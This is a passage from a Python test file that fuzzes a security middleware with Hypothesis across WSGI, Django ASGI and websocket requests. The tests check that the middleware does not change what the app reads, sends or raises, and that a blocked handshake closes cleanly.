    plan = WsgiPlan([("read", -1)], "200 OK", [], [], "list", "never", True, -1)
    _wsgi_block_reads(plan, {**BLOCK_ENVIRON, "CONTENT_LENGTH": "5"}, b"hello world", None)


def test_wsgi_block_read_ahead_client_gone_mid_body() -> None:
    """Found by the fuzzing: the client goes away after 5 of 18 bytes. The bare app's first
    ``readlines()`` raises the server's error; in block mode the read-ahead hit that error, and
    the app's first call returns the 5 bytes read ahead, the error comes one call later."""
    plan = WsgiPlan([("readlines", 0), ("readlines", 0)], "200 OK", [], [], "list", "never", True, -1)
    _wsgi_block_reads(plan, {**BLOCK_ENVIRON, "CONTENT_LENGTH": "18"}, b"hello world, again", 5)


async def _django_asgi(handler: Any, scope: dict[str, Any], body: bytes, run: WsgiRun) -> None:
    """What Django's ASGI handler does: the body spooled in memory, the response consumed, closed."""
    from django.core.handlers.asgi import ASGIRequest

    try:
        request = ASGIRequest(scope, io.BytesIO(body))
        response = await handler(request)
        run.starts.append((str(response.status_code), list(response.items())))
        try:
            if response.streaming:
                async for chunk in response:  # consumed to the end: an async generator left
                    run.out.append(chunk)  # half-way is finalised by the event loop, not here
            else:
                run.out.extend(response)
        finally:
            response.close()
    except BaseException as exc:
        run.exception = exc


def test_django_asgi_fuzz_transparent_and_fail_open(otel: Any, faults: FaultCheck) -> None:
    pytest.importorskip("django")
    import django_app

    django_app.setup()
    from devsecmw.django import SecurityMiddleware as DjangoMiddleware

    async def placeholder(request: Any) -> Any:
        return None

    mw = DjangoMiddleware(placeholder, **otel.providers, **OPTIONS)

    @settings(FUZZ, max_examples=100)
    @given(request=asgi_requests(), plan=wsgi_plans(), fault=fault)
    def check(
        request: tuple[dict[str, Any], list[dict[str, Any]], int | None], plan: WsgiPlan, fault: str | None
    ) -> None:
        scope, script, _ = request
        body = b"".join(m.get("body", b"") for m in script)
        bare = WsgiRun()
        asyncio.run(_django_asgi(django_view(plan, bare, is_async=True), scope, body, bare))
        wrapped = WsgiRun()
        with faults.around(fault):
            mw.get_response = django_view(plan, wrapped, is_async=True)
            asyncio.run(_django_asgi(mw, scope, body, wrapped))
        assert wrapped.reads == bare.reads, "devsecmw changed what the view reads"
        assert wrapped.starts == bare.starts
        assert wrapped.out == bare.out, "devsecmw changed what the client receives"
        if bare.exception is None:
            assert wrapped.exception is None, f"devsecmw raised {wrapped.exception!r}"
        else:
            assert wrapped.exception is not None and repr(wrapped.exception) == repr(bare.exception)
            if bare.raised:
                assert wrapped.exception in wrapped.raised, "not the view's own exception"

    check()
    assert otel.server_spans(), "the fuzzed requests were inspected"


# =========================================================================== ASGI websockets
@dataclass
class WsPlan:
    accept: str  # "accept", "close" (before accept: the server answers 403), "raise"
    receives: int
    sends: list[str | bytes]


@st.composite
def websocket_exchanges(draw: st.DrawFn) -> tuple[dict[str, Any], list[dict[str, Any]], WsPlan]:
    raw_path = b"/ws/" + draw(raw_bytes)
    scope = {
        "type": "websocket",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "scheme": "ws",
        "path": raw_path.decode("utf-8", "replace"),
        "raw_path": raw_path,
        "query_string": draw(raw_bytes),
        "root_path": "",
        "headers": [(k.lower(), v) for k, v in draw(headers)],
        "client": ("10.1.2.3", 50000),
        "server": ("127.0.0.1", 8000),
        "subprotocols": [],
    }
    frames = draw(st.lists(st.one_of(raw_bytes, raw_bytes.map(lambda b: b.decode("latin-1"))), max_size=4))
    script: list[dict[str, Any]] = [{"type": "websocket.connect"}]
    for f in frames:
        script.append({"type": "websocket.receive", **({"text": f} if isinstance(f, str) else {"bytes": f})})
    script.append({"type": "websocket.disconnect", "code": 1000})
    plan = WsPlan(
        draw(st.sampled_from(["accept", "accept", "close", "raise"])),
        draw(st.integers(0, 6)),
        draw(st.lists(st.one_of(st.binary(max_size=20), st.text(max_size=20)), max_size=3)),
    )
    return scope, script, plan


def websocket_app(plan: WsPlan, run: AsgiRun) -> Any:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        run.called = True
        for _ in range(plan.receives):
            message = await receive()
            run.received.append(copy.copy(message))
            if message["type"] == "websocket.disconnect":
                return
            if message["type"] == "websocket.connect":
                if plan.accept == "raise":
                    exc = AppError("handshake refused by an exception")
                    run.raised.append(exc)
                    raise exc
                if plan.accept == "close":
                    await send({"type": "websocket.close", "code": 1008})
                    return
                await send({"type": "websocket.accept"})
                for m in plan.sends:
                    await send(
                        {"type": "websocket.send", **({"text": m} if isinstance(m, str) else {"bytes": m})}
                    )

    return app


@pytest.mark.parametrize("mode", ["monitor", "block"])
def test_asgi_websocket_fuzz_transparent(otel: Any, faults: FaultCheck, mode: str) -> None:
    mw = AsgiMiddleware(lambda *a: None, **otel.providers, **OPTIONS, mode=mode)

    async def serve(app: Any, scope: dict[str, Any], script: list[dict[str, Any]], run: AsgiRun) -> None:
        queue = list(script)

        async def receive() -> dict[str, Any]:
            run.server_receives += 1
            return queue.pop(0) if queue else {"type": "websocket.disconnect", "code": 1006}

        async def send(message: dict[str, Any]) -> None:
            run.sent.append(copy.copy(message))

        try:
            await app(copy.deepcopy(scope), receive, send)
        except BaseException as exc:
            run.exception = exc

    @settings(FUZZ, max_examples=100)
    @given(exchange=websocket_exchanges(), fault=fault)
    def check(exchange: tuple[dict[str, Any], list[dict[str, Any]], WsPlan], fault: str | None) -> None:
        scope, script, plan = exchange
        bare = AsgiRun()
        asyncio.run(serve(websocket_app(plan, bare), scope, script, bare))
        wrapped = AsgiRun()
        with faults.around(fault):
            mw.app = websocket_app(plan, wrapped)
            asyncio.run(serve(mw, scope, script, wrapped))
        if mode == "block" and not wrapped.called:  # a blocked handshake: closed before accept
            assert wrapped.exception is None and wrapped.sent == [{"type": "websocket.close", "code": 1008}]
            return
        assert wrapped.received == bare.received
        assert wrapped.sent == bare.sent
        assert wrapped.server_receives == bare.server_receives
        assert repr(wrapped.exception) == repr(bare.exception)
        if bare.exception is not None:
            assert wrapped.exception in wrapped.raised

    check()
